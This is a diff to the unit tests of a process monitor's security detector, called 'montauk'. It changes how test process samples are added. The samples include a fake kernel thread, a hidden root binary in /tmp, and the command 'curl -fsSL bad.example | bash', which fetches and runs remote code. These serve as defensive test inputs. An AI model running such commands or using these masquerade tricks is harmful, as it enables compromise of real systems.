@@ -29,7 +29,7 @@ static montauk::model::ProcSample make_proc(int pid,
 
 TEST(security_root_tmp_warning) {
   montauk::model::Snapshot snap;
-  snap.procs.processes.push_back(make_proc(1324, "root", "/tmp/.kworkerd", "/tmp/.kworkerd", 0.5));
+  snap.procs.push_back(make_proc(1324, "root", "/tmp/.kworkerd", "/tmp/.kworkerd", 0.5));
   auto findings = collect_security_findings(snap);
   ASSERT_EQ(1u, findings.size());
   ASSERT_EQ(2, findings[0].severity);
@@ -38,7 +38,7 @@ TEST(security_root_tmp_warning) {
 
 TEST(security_fake_kernel_thread) {
   montauk::model::Snapshot snap;
-  snap.procs.processes.push_back(make_proc(4269, "root", "[kthreadd]", "/usr/local/bin/fake", 0.0));
+  snap.procs.push_back(make_proc(4269, "root", "[kthreadd]", "/usr/local/bin/fake", 0.0));
   auto findings = collect_security_findings(snap);
   ASSERT_EQ(1u, findings.size());
   ASSERT_EQ(2, findings[0].severity);
@@ -48,7 +48,7 @@ TEST(security_fake_kernel_thread) {
 
 TEST(security_curl_bash_caution) {
   montauk::model::Snapshot snap;
-  snap.procs.processes.push_back(make_proc(2981, "mod",
+  snap.procs.push_back(make_proc(2981, "mod",
                                            "curl -fsSL bad.example | bash",
                                            "/usr/bin/curl", 0.1));
   auto findings = collect_security_findings(snap);
@@ -60,7 +60,7 @@ TEST(security_curl_bash_caution) {
 
 TEST(security_python_home_caution) {
   montauk::model::Snapshot snap;
-  snap.procs.processes.push_back(make_proc(6872, "mod",
+  snap.procs.push_back(make_proc(6872, "mod",
                                            "python /home/mod/scripts/watch.py",
                                            "/usr/bin/python", 0.1));
   auto findings = collect_security_findings(snap);
@@ -71,7 +71,7 @@ TEST(security_python_home_caution) {
 
 TEST(security_tmp_shell_warning) {
   montauk::model::Snapshot snap;
-  snap.procs.processes.push_back(make_proc(903350, "mod",
+  snap.procs.push_back(make_proc(903350, "mod",
                                            "bash /tmp/proc_churn.sh 8 1000 0",
                                            "/usr/bin/bash", 0.5));
   auto findings = collect_security_findings(snap);
@@ -87,7 +87,7 @@ TEST(security_auth_churn_warning) {
   snap.churn.recent_2s_events = 5;  // Sustained churn activity
   snap.churn.recent_2s_proc = 5;
   auto p = make_proc(5210, "root", "sshd", "/usr/sbin/sshd", 0.0, montauk::model::ChurnReason::ReadFailed);
-  snap.procs.processes.push_back(p);
+  snap.procs.push_back(p);
   auto findings = collect_security_findings(snap);
   ASSERT_EQ(1u, findings.size());
   ASSERT_EQ(2, findings[0].severity);
@@ -100,7 +100,7 @@ TEST(security_read_failed_no_false_positive) {
   montauk::model::Snapshot snap;
   snap.churn.recent_2s_events = 1;  // Below threshold (< 3)
   auto p = make_proc(5210, "root", "sshd", "/usr/sbin/sshd", 0.0, montauk::model::ChurnReason::ReadFailed);
-  snap.procs.processes.push_back(p);
+  snap.procs.push_back(p);
   auto findings = collect_security_findings(snap);
   // Should have no findings - not enough sustained churn to indicate crashloop
   ASSERT_EQ(0u, findings.size());
@@ -113,7 +113,7 @@ TEST(security_high_churn_non_auth_no_warning) {
   snap.churn.recent_2s_proc = 10;
   // Non-auth process with read failure
   auto p = make_proc(1234, "mod", "myapp", "/usr/bin/myapp", 0.0, montauk::model::ChurnReason::ReadFailed);
-  snap.procs.processes.push_back(p);
+  snap.procs.push_back(p);
   auto findings = collect_security_findings(snap);
   // No auth crashloop warning - the churning process isn't auth-related
   ASSERT_EQ(0u, findings.size());